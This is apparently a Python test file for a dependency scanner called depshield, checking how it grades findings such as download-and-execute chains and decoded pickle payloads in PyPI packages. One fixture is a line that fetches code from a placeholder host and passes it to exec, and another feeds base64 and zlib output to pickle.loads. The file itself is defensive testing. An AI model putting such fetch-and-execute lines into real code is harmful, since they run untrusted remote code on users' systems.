"""Grading of threats in PyPI code that only runs when called: direct chains and co-occurrence."""

from __future__ import annotations

from depshield.alerts.catalog import CATALOG
from depshield.alerts.grading import grade
from depshield.ecosystems.plugins import plugin
from depshield.model import Finding, Override, When


def graded(f: Finding, shipped: bool = True) -> tuple[str, str | None]:
    pypi = plugin("pypi")
    g = grade(f, When.CALL, CATALOG[f.type], ecosystem=pypi, install_quiet=False, shipped=shipped)
    return g.action, g.note


def test_download_executed_in_one_python_function_blocks_whoever_calls_it() -> None:
    f = Finding(
        "remoteCodeDownload",
        "pkg/console.py",
        17,
        'exec(requests.get("https://x.example.invalid/raw").text)',
        {"pattern": "download-executed", "sink": "exec"},
    )
    assert graded(f) == ("error", None)
    # the same chain in a module nothing installs from the source archive stays at warn
    assert graded(f, shipped=False)[0] == "warn"


def test_chain_in_a_maintainer_script_of_the_source_archive_is_monitor() -> None:
    f = Finding(
        "remoteCodeDownload",
        "scripts/internal/install_pip.py",
        42,
        "os.system(...)",
        {"pattern": "download-write-run"},
    )
    action, note = graded(f, shipped=False)
    assert action == "monitor" and note and "maintainer script" in note


def test_chain_found_in_bundled_javascript_of_a_python_package_warns() -> None:
    f = Finding(
        "remoteCodeDownload", "pkg/static/app.min.js", 2, "new Function(...)", {"how": "eval"}
    )
    assert graded(f)[0] == "warn"


def cooccurrence(download: str, run: str) -> Finding:
    return Finding(
        "remoteCodeDownload",
        run.split(":")[0],
        int(run.split(":")[1]),
        "exec(code)",
        {
            "how": "eval",
            "chain": [f"{download} urlopen(uri)", f"{run} exec(code)"],
        },
        override=Override("high", "warn"),
    )


def test_download_and_eval_far_apart_are_no_chain() -> None:
    other_file = cooccurrence("pkg/ref_resolver.py:70", "pkg/__init__.py:294")
    action, note = graded(other_file)
    assert action == "monitor" and note and "far apart" in note
    assert graded(cooccurrence("pkg/shell.py:4126", "pkg/shell.py:1660"))[0] == "monitor"


def test_download_and_eval_close_together_still_warn() -> None:
    assert graded(cooccurrence("pkg/run.py:10", "pkg/run.py:14")) == ("warn", None)


def test_decoded_blob_into_pickle_in_called_code_warns_not_blocks() -> None:
    # debugpy's pydevd passes test filters as base64+zlib pickles: the blob is an argument.
    f = Finding(
        "encodedPayloadExecution",
        "debugpy/_vendored/pydevd/_pydev_runfiles/pydev_runfiles_pytest2.py",
        25,
        "pickle.loads(zlib.decompress(base64.b64decode(py_test_accept_filter)))",
        {"decoder": ["base64", "zlib"], "sink": "pickle"},
    )
    assert graded(f) == ("warn", "runs only when the package's code calls it")
